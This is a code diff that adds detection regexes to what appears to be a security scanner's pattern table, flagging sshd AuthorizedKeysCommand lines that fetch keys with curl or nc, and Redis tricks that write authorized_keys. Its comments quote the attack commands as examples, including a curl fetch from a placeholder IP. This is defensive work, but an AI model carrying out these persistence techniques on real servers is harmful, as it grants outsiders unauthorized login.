@@ -3214,6 +3214,8 @@ PATTERNS: Mapping[Capability, tuple[re.Pattern[str], ...]] = {
         ),
     ),
     Capability.AUTHORIZED_KEYS: (
+        # sshd's source of authorized keys replaced by a command it runs at every login
+        re.compile(r"\bAuthorizedKeysCommand\s+['\"]?\S*\b(?:curl|wget|fetch|nc|ncat)\b", _I),
         # a key-value store told to save its database as a user's authorized_keys
         re.compile(r"\bconfig\s+set\s+dbfilename\s+['\"]?authorized_keys\b", _I),
         # the same through a client library (`r.config_set('dbfilename', 'authorized_keys')`,
@@ -3232,6 +3234,11 @@ PATTERNS: Mapping[Capability, tuple[re.Pattern[str], ...]] = {
         re.compile(r"open\s*\([^\n]*authorized_keys[^\n]*['\"]a['\"]", _I),
     ),
     Capability.SSH_KEY_LITERAL: (
+        # sshd told to fetch every login's keys from a web address (`AuthorizedKeysCommand
+        # /usr/bin/curl -fsS https://198.51.100.8/keys/%u`): whoever serves it can log in
+        re.compile(
+            r"\bAuthorizedKeysCommand\s+['\"]?\S*\b(?:curl|wget|fetch|nc|ncat)\b[^\n]*?(?:https?|ftp)://", _I
+        ),
         # one's public key stored as a value in a remote key-value store (`... | redis-cli -x set`)
         # a value padded with blank lines so that it survives as a line of the store's dump file
         # (`printf '\n\n%s\n\n' "$KEY" | redis-cli -x set`, `r.set('k', '\n\n' + key + '\n\n')`)
